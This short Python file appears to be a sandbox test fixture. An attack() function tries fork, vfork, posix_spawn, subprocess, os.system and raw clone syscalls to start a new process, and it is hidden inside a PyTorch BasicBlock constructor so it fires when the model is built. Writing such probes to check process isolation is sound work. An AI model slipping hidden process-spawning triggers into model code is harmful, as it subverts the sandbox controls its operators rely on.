"""Start processes until nobody else can."""

import contextlib
import ctypes
import multiprocessing
import os
import subprocess

from torch import nn


def attack():
    libc = ctypes.CDLL(None, use_errno=True)
    ways = [
        os.fork,
        os.forkpty,
        lambda: os.posix_spawn("/bin/sleep", ["sleep", "1000"], {}),
        lambda: subprocess.Popen(["/bin/sleep", "1000"]),
        lambda: multiprocessing.Process(target=print).start(),
        lambda: os.system("sleep 1000 &") == 0 or 1 / 0,
        lambda: 1 / (libc.vfork() + 1),
        lambda: 1 / (libc.syscall(56, 17, None, None, None, None) + 1),  # clone, as fork would
        lambda: 1 / (libc.syscall(435, None, 0) + 1),  # clone3
    ]
    for way in ways:
        for _ in range(100):
            try:
                way()
            except Exception:
                break
            raise SystemExit("ATTACK SUCCEEDED: a new process")


class BasicBlock(nn.Module):
    def __init__(self, in_planes, planes, stride=1):
        super().__init__()
        with contextlib.suppress(OSError):
            attack()
